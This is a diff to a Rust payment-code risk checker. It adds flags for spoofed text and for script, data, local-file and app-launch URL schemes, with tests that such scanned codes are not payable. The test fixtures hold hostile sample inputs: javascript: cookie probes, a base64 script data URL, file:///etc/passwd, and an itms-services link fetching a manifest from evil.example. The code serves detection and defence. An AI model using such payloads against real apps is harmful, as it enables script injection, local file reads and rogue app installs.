@@ -3,6 +3,8 @@
 //! Flags never change what a code *is* (that is `valid` and `error`); they tell the app what
 //! to warn about before it lets the user pay.
 
+pub mod schemes;
+
 use crate::codes::{CodeError, Presentation, StaticOrDynamic};
 use crate::money::Money;
 use crate::registry::{Context, Expect, PaymentCode, Registry};
@@ -29,6 +31,21 @@ pub enum RiskFlag {
     /// The payer's own pay code shown where a merchant's code is expected (a common scam:
     /// "scan this to receive money" makes the victim pay).
     PayerCodeWhereMerchantExpected,
+    /// A name, city or note holds bidi overrides/isolates/marks or control characters that
+    /// can make it read differently from what is paid: show it escaped or isolated.
+    TextSpoofing,
+    /// `javascript:`, `vbscript:`: runs code in whatever opens it.
+    ScriptLink,
+    /// `data:`, `blob:`: carries its own page or script instead of pointing at one.
+    EmbeddedContentLink,
+    /// `file:`, `content:`, `smb:`...: reaches files or services on the device or its network.
+    LocalResourceLink,
+    /// `intent:`, `itms-services:`...: starts or installs an app with the code's parameters.
+    AppLaunchLink,
+    /// `tel:`, `sms:`, `mailto:`, `geo:`...: an ordinary action, not a payment.
+    NonPaymentLink,
+    /// A scheme no registry row or scheme table knows: some app's or wallet's private link.
+    UnknownAppScheme,
 }
 
 impl RiskFlag {
@@ -43,6 +60,13 @@ impl RiskFlag {
             RiskFlag::AmountOverStaticCap => "amount_over_static_cap",
             RiskFlag::Expired => "expired",
             RiskFlag::PayerCodeWhereMerchantExpected => "payer_code_where_merchant_expected",
+            RiskFlag::TextSpoofing => "text_spoofing",
+            RiskFlag::ScriptLink => "script_link",
+            RiskFlag::EmbeddedContentLink => "embedded_content_link",
+            RiskFlag::LocalResourceLink => "local_resource_link",
+            RiskFlag::AppLaunchLink => "app_launch_link",
+            RiskFlag::NonPaymentLink => "non_payment_link",
+            RiskFlag::UnknownAppScheme => "unknown_app_scheme",
         }
     }
 }
@@ -68,12 +92,14 @@ pub fn assess(
         flags.push(RiskFlag::CrcMissing);
     }
     if let Some(u) = url {
-        host_flags(
-            u,
-            reg,
-            code.network.as_deref() == Some("unknown_url"),
-            &mut flags,
-        );
+        let unknown = code.network.as_deref() == Some("unknown_url");
+        if unknown {
+            flags.extend(schemes::flag_for(&u.scheme));
+        }
+        host_flags(u, reg, unknown, &mut flags);
+    }
+    if !code.suspicious_text.is_empty() {
+        flags.push(RiskFlag::TextSpoofing);
     }
     if code.static_or_dynamic == StaticOrDynamic::Static {
         if let Some(amount) = code.amount {
@@ -253,6 +279,73 @@ mod tests {
             .identify(invoice, &late)
             .risk
             .contains(&RiskFlag::Expired));
+    }
+
+    #[test]
+    fn every_non_payment_or_script_scheme_is_flagged_and_not_valid() {
+        for (text, flag) in [
+            ("javascript:alert(document.cookie)", RiskFlag::ScriptLink),
+            ("JavaScript:alert(1)", RiskFlag::ScriptLink),
+            ("vbscript:msgbox(1)", RiskFlag::ScriptLink),
+            ("javascript:alert( 1 )", RiskFlag::ScriptLink),
+            (
+                "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
+                RiskFlag::EmbeddedContentLink,
+            ),
+            (
+                "blob:https://example.org/1b2c",
+                RiskFlag::EmbeddedContentLink,
+            ),
+            ("file:///etc/passwd", RiskFlag::LocalResourceLink),
+            (
+                "content://com.android.contacts/contacts",
+                RiskFlag::LocalResourceLink,
+            ),
+            (
+                "intent://scan/#Intent;scheme=zxing;package=com.evil;end",
+                RiskFlag::AppLaunchLink,
+            ),
+            (
+                "itms-services://?action=download-manifest&url=https://evil.example/m.plist",
+                RiskFlag::AppLaunchLink,
+            ),
+            ("tel:+8613800000000", RiskFlag::NonPaymentLink),
+            ("mailto:a@example.org", RiskFlag::NonPaymentLink),
+            (
+                "alipays://platformapi/startapp?appId=20000067",
+                RiskFlag::UnknownAppScheme,
+            ),
+            ("phonepe://pay?pa=x@ybl", RiskFlag::UnknownAppScheme),
+            ("weixin://dl/business/?t=abc", RiskFlag::UnknownAppScheme),
+        ] {
+            let code = identify(text);
+            assert!(code.risk.contains(&flag), "{text}: {:?}", code.risk);
+            assert!(!code.valid, "{text} is not payable");
+            assert_eq!(code.network.as_deref(), Some("unknown_url"), "{text}");
+        }
+        // Payment schemes the registry knows are not flagged as links.
+        let wechat = identify("weixin://wxpay/bizpayurl?pr=abcdefg");
+        assert!(wechat.valid && wechat.risk.is_empty(), "{:?}", wechat.risk);
+    }
+
+    #[test]
+    fn text_spoofing_is_flagged_on_unrecognised_payloads_too() {
+        for text in ["\u{202e}javascript:alert(1)", "\u{1b}]0;x\u{7}hello"] {
+            let code = identify(text);
+            assert!(!code.valid);
+            assert_eq!(code.risk, [RiskFlag::TextSpoofing], "{text:?}");
+        }
+        assert!(identify("hello").risk.is_empty());
+    }
+
+    #[test]
+    fn a_web_link_is_not_a_payment_code() {
+        let code = identify("https://example.org/pay");
+        assert!(!code.valid);
+        assert_eq!(
+            code.error.as_ref().map(CodeError::code),
+            Some("not_a_payment_code")
+        );
     }
 
     #[test]
